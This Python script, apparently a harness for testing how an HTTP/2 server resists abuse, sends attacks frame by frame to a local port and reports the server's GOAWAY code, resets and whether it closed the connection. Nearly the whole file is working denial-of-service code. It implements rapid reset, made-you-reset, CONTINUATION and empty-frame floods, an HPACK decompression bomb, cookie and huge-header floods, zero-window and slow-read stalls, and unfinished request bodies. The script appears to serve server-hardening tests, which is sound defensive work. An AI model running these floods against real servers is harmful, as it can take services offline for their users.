"""Abuses an HTTP/2 server, frame by frame: `abuse.py PORT NAME` prints what became of the connection as one line of JSON.

`frames` were sent before the server had enough, `goaway` is the code that it said last, `closed` whether it closed.
"""

import json
import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame,
    SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# More than any server should put up with, and a bound for those that do.
MOST = 200_000
PATIENCE = 60


class Connection:
    def __init__(self, port, settings=None):
        self.socket = socket.socket()
        # What is on its way counts as sent: little of it at a time.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 16)
        self.socket.connect(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.encoder = hpack.Encoder()
        self.frames, self.goaway, self.resets, self.closed = 0, None, 0, False
        self.heads, self.data = 0, 0
        self.unread = b""
        self.until = time.monotonic() + PATIENCE
        first = SettingsFrame(0, settings=settings or {})
        self.write(PREFACE + first.serialize())

    def write(self, data):
        """All of it, unless the server closes; what the server says is read meanwhile."""
        while data and not self.closed and time.monotonic() < self.until:
            self.read()
            try:
                data = data[self.socket.send(data):]
            except BlockingIOError:
                time.sleep(0.001)
            except OSError:
                # A reset met what was sent; what the server said before it is still to be read.
                self.read()
                self.closed = True

    def send(self, *frames):
        self.write(b"".join(frame.serialize() for frame in frames))
        self.frames += len(frames)

    def read(self):
        try:
            while True:
                some = self.socket.recv(65536)
                if not some:
                    self.closed = True
                    return
                self.unread += some
                self.take()
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True

    def take(self):
        while len(self.unread) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.unread[:9]))
            if len(self.unread) < 9 + length:
                return
            frame.parse_body(memoryview(self.unread[9:9 + length]))
            self.unread = self.unread[9 + length:]
            if isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code
            elif isinstance(frame, RstStreamFrame):
                self.resets += 1
            elif isinstance(frame, HeadersFrame):
                self.heads += 1
            elif isinstance(frame, DataFrame):
                self.data += length

    def wait(self, seconds):
        end = min(self.until, time.monotonic() + seconds)
        while not self.closed and time.monotonic() < end:
            self.read()
            time.sleep(0.005)

    def head(self, path="/", method="GET", extra=()):
        fields = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "shop.example"), *extra]
        return self.encoder.encode(fields)

    def open(self, stream, block=None, over=True, whole=True):
        flags = (["END_STREAM"] if over else []) + (["END_HEADERS"] if whole else [])
        return HeadersFrame(stream, data=self.head() if block is None else block, flags=flags)


def flood(make):
    """Sends what `make(connection, number)` says until the server has had enough."""
    def attack(port):
        connection = Connection(port)
        number = 0
        while number < MOST and not connection.closed and connection.goaway is None:
            batch = []
            for _ in range(20):
                batch += make(connection, number)
                number += 1
            connection.send(*batch)
        connection.wait(5)
        return connection
    return attack


def rapid_reset(connection, number):
    stream = 2 * number + 1
    return [connection.open(stream), RstStreamFrame(stream, error_code=8)]


def made_you_reset(connection, number):
    stream = 2 * number + 1
    return [connection.open(stream, over=False), WindowUpdateFrame(stream, window_increment=1),
            WindowUpdateFrame(stream, window_increment=2**31 - 1)]


def malformed(connection, number):
    block = connection.head(extra=[("connection", "close")])
    return [connection.open(2 * number + 1, block)]


def continuations(size):
    def make(connection, number):
        piece = ContinuationFrame(1, data=connection.encoder.encode([("x-%d" % number, "y" * size)]) if size else b"")
        return [connection.open(1, whole=False), piece] if number == 0 else [piece]
    return make


def one(make):
    return flood(lambda connection, number: [make(number)])


def empty_data(connection, number):
    data = DataFrame(1, data=b"")
    return [connection.open(1, connection.head(method="POST"), over=False), data] if number == 0 else [data]


def hpack_bomb(port):
    """One field of 4000 bytes in the table, then thousands of references to it, a byte each."""
    connection = Connection(port)
    first = connection.head(extra=[("x-bomb", "b" * 3900)])
    connection.send(connection.open(1, first))
    for number in range(1, 50):
        # 0xbe: the youngest entry of the dynamic table (RFC 7541, section 6.1).
        connection.send(connection.open(2 * number + 1, connection.head() + b"\xbe" * 16000))
        if connection.closed or connection.goaway is not None:
            break
    connection.wait(3)
    return connection


def crumbs(port):
    """Cookies in as many fields as there is room for, a hundred times."""
    fields = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "shop.example"),
              *(("cookie", "a=%d" % index) for index in range(3000))]
    # Nothing of it goes into a table, so the block means the same every time.
    block = hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields])
    connection = Connection(port)
    for number in range(100):
        stream = 2 * number + 1
        connection.send(connection.open(stream, block[:16000], whole=len(block) <= 16000))
        for at in range(16000, len(block), 16000):
            flags = ["END_HEADERS"] if at + 16000 >= len(block) else []
            connection.send(ContinuationFrame(stream, data=block[at:at + 16000], flags=flags))
        if connection.closed or connection.goaway is not None:
            break
    while connection.heads < 100 and not connection.closed and time.monotonic() < connection.until:
        connection.wait(0.01)
    return connection


def huge_head(port):
    connection = Connection(port)
    block = connection.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", "/")])
    connection.send(connection.open(1, block, whole=False))
    for number in range(1000):
        piece = connection.encoder.encode([("x-%d" % number, "z" * 15000)], huffman=False)
        connection.send(ContinuationFrame(1, data=piece))
        if connection.closed or connection.goaway is not None:
            break
    connection.wait(3)
    return connection


def zero_window(port):
    """Asks for much and takes none of it."""
    connection = Connection(port, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    connection.send(*[connection.open(2 * number + 1, connection.head("/large")) for number in range(100)])
    connection.wait(PATIENCE)
    return connection


def slow_read(port):
    """Takes a byte now and then."""
    connection = Connection(port, {SettingsFrame.INITIAL_WINDOW_SIZE: 1})
    connection.send(*[connection.open(2 * number + 1, connection.head("/large")) for number in range(50)])
    while not connection.closed and time.monotonic() < connection.until:
        connection.send(*[WindowUpdateFrame(2 * number + 1, window_increment=1) for number in range(50)])
        connection.wait(0.05)
        if connection.goaway is not None:
            break
    connection.wait(2)
    return connection


def unfinished(port):
    """Begins bodies that never come."""
    connection = Connection(port)
    block = lambda: connection.head(method="POST", extra=[("content-length", "10")])
    connection.send(*[connection.open(2 * number + 1, block(), over=False) for number in range(100)])
    connection.wait(PATIENCE)
    return connection


ATTACKS = {
    "rapid-reset": flood(rapid_reset),
    "made-you-reset": flood(made_you_reset),
    "malformed": flood(malformed),
    "continuation": flood(continuations(100)),
    "empty-continuation": flood(continuations(0)),
    "settings": one(lambda number: SettingsFrame(0, settings={3: number % 1000})),
    "ping": one(lambda number: PingFrame(0, opaque_data=b"12345678")),
    "priority": one(lambda number: PriorityFrame(2 * (number % 1000) + 1, depends_on=0, stream_weight=1)),
    "window-update": one(lambda number: WindowUpdateFrame(0, window_increment=1)),
    "empty-data": flood(empty_data),
    "hpack-bomb": hpack_bomb,
    "crumbs": crumbs,
    "huge-head": huge_head,
    "zero-window": zero_window,
    "slow-read": slow_read,
    "unfinished": unfinished,
}


def main():
    port, name = int(sys.argv[1]), sys.argv[2]
    began = time.monotonic()
    ended = ATTACKS[name](port)
    print(json.dumps({
        "attack": name, "frames": ended.frames, "goaway": ended.goaway, "closed": ended.closed, "resets": ended.resets,
        "heads": ended.heads, "data": ended.data, "seconds": round(time.monotonic() - began, 2)}))


main()
